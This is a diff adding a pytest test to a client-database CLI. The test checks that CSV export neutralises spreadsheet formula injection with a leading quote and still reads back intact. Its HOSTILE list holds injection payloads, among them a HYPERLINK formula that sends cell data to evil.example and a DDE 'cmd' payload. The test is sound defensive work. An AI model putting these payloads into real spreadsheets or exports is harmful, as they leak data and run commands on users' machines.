@@ -164,6 +164,50 @@ def test_export_bom_for_spreadsheets(env: Env, tmp_path: Path) -> None:
     assert env.run("import", str(out), "--dry-run")[0] == 0  # and it reads back
 
 
+HOSTILE = [  # what any operator can type into a client's card (a leading tab is trimmed)
+    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\uff1dHYPERLINK(1)",  # full width: ＝
+    "\uff0bcmd",
+    "\uff0d2\uff0b3",
+    "\uff20SUM(A1)",
+]
+
+
+@pytest.mark.parametrize("bom", [False, True])
+def test_export_defuses_formulas_and_reads_back(env: Env, tmp_path: Path, bom: bool) -> None:
+    """Names, companies and notes an operator typed as formulas are written with a leading
+    `'` (with --bom, for spreadsheets, as without); importing the export gives them back."""
+    rows = [HEADER.split(",")]
+    for i, text in enumerate(HOSTILE):
+        rows.append([text, text, "", text, "", "", "", mobile(i)])
+    rows.append(["Plain Name", "", "", "-5", "", "", "", "+995 555 000 111"])
+    rows.append(["'@another tool's guard", "", "", "", "", "", "", ""])  # read without it
+    path = tmp_path / "in.csv"
+    with path.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(rows)
+    assert env.run("import", str(path))[0] == 0
+    stored = env.clients()
+    assert [c[1] for c in stored] == [*HOSTILE, "Plain Name", "@another tool's guard"]
+
+    out = tmp_path / "out.csv"
+    assert env.run("export", str(out), *(["--bom"] if bom else []))[0] == 0
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        exported = list(csv.DictReader(f))
+    for row, text in zip(exported, HOSTILE, strict=False):
+        for name in ("name", "company", "notes"):
+            assert row[name] == "'" + text, (name, row[name])
+    assert exported[-2]["name"] == "Plain Name" and exported[-2]["notes"] == "-5"
+    assert exported[-2]["phones"] == "+995 555 000 111"
+    assert exported[-1]["name"] == "'@another tool's guard"
+
+    other = Env(tmp_path / "b", env.capsys)
+    assert other.run("import", str(out))[0] == 0
+    assert [c[1:] for c in other.clients()] == [c[1:] for c in stored]
+
+
 def test_export_without_database_says_so(env: Env, tmp_path: Path) -> None:
     code, _, err = env.run("export", str(tmp_path / "out.csv"))
     assert code == 1 and "no database" in err
